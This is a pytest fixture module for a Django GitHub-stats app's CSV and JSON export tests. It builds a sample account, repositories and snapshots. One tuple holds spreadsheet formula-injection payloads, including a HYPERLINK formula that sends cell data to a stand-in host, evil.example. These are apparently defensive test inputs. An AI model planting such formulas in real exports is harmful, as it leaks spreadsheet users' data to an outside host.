"""Stored accounts to export: a few repositories of every kind (one from a hostile owner), and
years of daily snapshots. The API clients (`api`, `api_for`, `browser_session`) are those of
tests/api/conftest.py."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.http import StreamingHttpResponse

from github_stats.models import GitHubAccount
from github_stats.ui.exports import BOM
from tests.api.conftest import api, api_for, browser_session, tokens  # noqa: F401
from tests.pages.factories import GitHubAccountFactory, RepositoryFactory, snapshots_for

HOSTILE_DESCRIPTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1)")


@pytest.fixture
def octocat(db) -> GitHubAccount:
    account = GitHubAccountFactory(login="octocat", public_repos=6)
    RepositoryFactory(owner=account, name="hello-world", stars=50, forks=7, language="Python")
    RepositoryFactory(owner=account, name="spoon-fork", stars=70, is_fork=True, language="Go")
    RepositoryFactory(owner=account, name="old-thing", stars=5, archived=True, language="Python")
    RepositoryFactory(owner=account, name="hello-go", stars=3, language="Go", topics=[])
    for index, description in enumerate(HOSTILE_DESCRIPTIONS):
        RepositoryFactory(
            owner=account, name=f"trap-{index}", stars=1, description=description, language="C"
        )
    snapshots_for(account, days=40)
    return account


def body_of(response) -> bytes:
    """Every byte of a download; a streamed one is consumed here."""
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[dict[str, str]]:
    text = body_of(response).decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def json_of(response) -> Any:
    return json.loads(body_of(response))
